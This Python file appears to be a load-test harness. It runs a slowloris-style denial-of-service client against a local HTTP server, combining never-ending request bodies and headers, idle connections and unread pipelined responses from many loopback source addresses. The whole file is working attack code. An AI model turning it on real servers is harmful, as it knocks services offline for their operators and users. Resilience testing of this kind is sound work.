# SPDX-License-Identifier: GPL-2.0-or-later
"""Clients that want an HTTP server silent, many at once: `hostile.py HOST PORT CONNECTIONS ADDRESSES`, with sources
from 127.1.0.1 on. Says "attacking" when each has tried once, goes on until its standard input ends, and connects
again whatever is closed."""

import collections
import contextlib
import resource
import select
import socket
import sys
import time

# What each kind says at first, and every second from then on.
KINDS = (
    (b"POST /-/reload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\n", b"x"),  # a body that does not end
    (b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", b"x"),  # nor do headers
    (b"", b""),  # idle
    (b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * 20, b""),  # answers that nobody reads
)
BATCH = 200
DRIP_SECONDS = 1


class Client:
    def __init__(self, number, target, addresses):
        self.opening, self.drip = KINDS[number % len(KINDS)]
        self.reads = self.opening.count(b"GET") < 2
        number = number // len(KINDS) % addresses
        self.source = f"127.1.{number // 250}.{number % 250 + 1}"
        self.target = target
        self.socket = None
        self.opened = False

    def connect(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        # Or 2^15 ports of one address are soon in TIME_WAIT.
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        self.socket.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        if not self.reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        self.socket.bind((self.source, 0))
        self.opened = False
        with contextlib.suppress(BlockingIOError):
            self.socket.connect(self.target)

    def close(self):
        self.socket.close()
        self.socket = None


class Attack:
    def __init__(self, target, count, addresses):
        self.clients = {}
        self.poller = select.epoll()
        self.waiting = collections.deque(Client(number, target, addresses) for number in range(count))

    def connect_some(self):
        for _ in range(min(BATCH, len(self.waiting))):
            client = self.waiting.popleft()
            try:
                client.connect()
            except OSError:
                client.close()
                self.waiting.append(client)
                continue
            self.clients[client.socket.fileno()] = client
            self.poller.register(client.socket, select.EPOLLOUT | select.EPOLLHUP)

    def on_event(self, descriptor, events):
        client = self.clients[descriptor]
        ended = events & (select.EPOLLHUP | select.EPOLLERR)
        try:
            if events & select.EPOLLIN and not ended:
                ended = not client.socket.recv(65536)
            if events & select.EPOLLOUT and not client.opened:
                client.opened = True
                client.socket.send(client.opening)
                self.poller.modify(descriptor, select.EPOLLIN if client.reads else select.EPOLLHUP)
        except BlockingIOError:
            pass
        except OSError:
            ended = True
        if ended:
            self.poller.unregister(descriptor)
            del self.clients[descriptor]
            client.close()
            self.waiting.append(client)

    def drip(self):
        for client in self.clients.values():
            if client.opened and client.drip:
                with contextlib.suppress(OSError):
                    client.socket.send(client.drip)

    def run(self, stop):
        said = False
        dripped = time.monotonic()
        tried = len(self.waiting)
        while not select.select([stop], [], [], 0)[0]:
            tried -= min(BATCH, len(self.waiting))
            self.connect_some()
            for descriptor, events in self.poller.poll(0.02):
                self.on_event(descriptor, events)
            if tried <= 0 and not said:
                print("attacking", flush=True)
                said = True
            if time.monotonic() - dripped > DRIP_SECONDS:
                dripped = time.monotonic()
                self.drip()


def main(host, port, count, addresses):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    Attack((host, int(port)), int(count), int(addresses)).run(sys.stdin)


if __name__ == "__main__":
    main(*sys.argv[1:])
